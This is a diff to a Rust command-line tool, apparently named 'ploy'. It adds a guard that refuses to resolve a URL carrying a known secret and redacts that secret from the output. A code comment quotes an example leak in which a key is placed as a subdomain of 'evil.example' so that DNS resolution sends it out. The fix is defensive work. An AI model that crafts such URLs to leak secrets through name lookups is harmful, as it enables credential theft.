@@ -103,6 +103,33 @@ pub fn check(args: CheckUrlArgs) -> ExitCode {
         );
         return ExitCode::from(EXIT_USAGE);
     }
+    // BEYOND-6 before any name is resolved: a name that carries a known
+    // secret sends it to the resolver (round8 #2: `ploy check url
+    // https://<key>.evil.example/` was a read-only command that leaked).
+    let secrets = match user_rules_and_secrets() {
+        Ok((_, secrets)) => secrets,
+        Err(err) => {
+            eprintln!("ploy: {err}");
+            eprintln!("hint: `ploy config check` shows what is wrong in settings.json");
+            return ExitCode::from(EXIT_USAGE);
+        }
+    };
+    if let Err(refusal) = SecretDoor::from_set(&secrets).check_sent_text(&args.url) {
+        if args.json {
+            print_json(&serde_json::json!({
+                "url": secrets.redactor().redact(&args.url),
+                "allowed": false,
+                "resolved": false,
+                "rule": refusal.rule,
+                "stage": refusal.stage,
+                "reason": refusal.reason,
+            }));
+        } else {
+            eprintln!("ploy: {refusal}");
+            eprintln!("hint: the address carries a secret ploy knows; it was not resolved");
+        }
+        return ExitCode::from(EXIT_REFUSED);
+    }
     let source = (!args.no_resolve).then(|| name_source(args.hosts));
     let verdict = match blocking::check_url(&args.url, source.as_ref()) {
         Ok(verdict) => verdict,
